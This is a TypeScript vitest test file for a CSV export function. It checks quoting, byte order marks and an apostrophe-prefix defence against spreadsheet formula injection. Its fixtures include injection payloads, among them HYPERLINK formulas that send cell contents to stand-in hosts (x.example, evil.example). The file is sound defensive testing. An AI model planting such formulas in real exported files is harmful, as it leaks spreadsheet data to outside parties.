import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { formatCsv, unescapeCell } from './csv.ts';

const cellsOf = (text: string): string[][] => parse(text, { bom: true });

describe('formatCsv', () => {
  test('writes RFC 4180 with a byte order mark, and quotes where needed', () => {
    const text = formatCsv(['name', 'price'], [['Elise "S", 2005', 48_500.5]]);
    expect(text).toBe('\ufeffname,price\r\n"Elise ""S"", 2005",48500.5\r\n');
  });

  test('line breaks, other separators, and leading and trailing spaces stay in their cell', () => {
    const row = ['one\r\ntwo', 'a;b', ' padded ', '', 'Zürich 🚗'];
    expect(cellsOf(formatCsv(['a', 'b', 'c', 'd', 'e'], [row]))[1]).toEqual(row);
  });

  test('null is an empty cell, and flags are words', () => {
    expect(formatCsv(['a', 'b', 'c'], [[null, true, false]])).toBe('\ufeffa,b,c\r\n,true,false\r\n');
  });

  const formulas = [
    '=1+1',
    '+1 480 555 0142',
    '-2',
    '@SUM(A1)',
    '\t1',
    '\r1',
    '\n1',
    '＝1',
    "'=1",
    "''@x",
    '=HYPERLINK("https://x.example?"&A1,"a")',
  ];
  test.each(formulas)('fault 28: %j is made harmless, and is read back unchanged', (text) => {
    const [, [cell] = []] = cellsOf(formatCsv(['name'], [[text]]));
    expect(cell).toBe(`'${text}`);
    expect(unescapeCell(cell ?? '')).toBe(text);
  });

  test.each([
    'hello;=HYPERLINK("http://evil.example","x");',
    'hello\n=1+1',
    'hello\r\n\t"=1+1',
    "hello; '=1;''@x",
    '\t=1',
    '\n- one\n- two|-three',
  ])('fault 28: %j is harmless even if cells are split at another separator', (text) => {
    const written = formatCsv(['id', 'message'], [[7, text]]);
    expect(written.split(/[;|\t\r\n]/).filter((cell) => /^[\s"]*[=+\-@]/.test(cell))).toEqual([]);
    expect(unescapeCell(cellsOf(written)[1]?.[1] ?? '')).toBe(text);
  });

  test('fault 28: a formula in the middle of a text is not changed', () => {
    expect(formatCsv(['a'], [['three - one = two; and more']])).toBe(
      '\ufeffa\r\n"three - one = two; and more"\r\n',
    );
  });

  test('fault 28: headers are treated like other cells', () => {
    expect(formatCsv(['=1'], [])).toBe("\ufeff'=1\r\n");
  });

  test.each(["'t was", "O'Neil", '', "'", '2005 =', -500])('%j needs no apostrophe', (cell) => {
    const [, [written] = []] = cellsOf(formatCsv(['a', 'b'], [[cell, 'x']]));
    expect(written).toBe(String(cell));
    expect(unescapeCell(String(cell))).toBe(String(cell));
  });
});
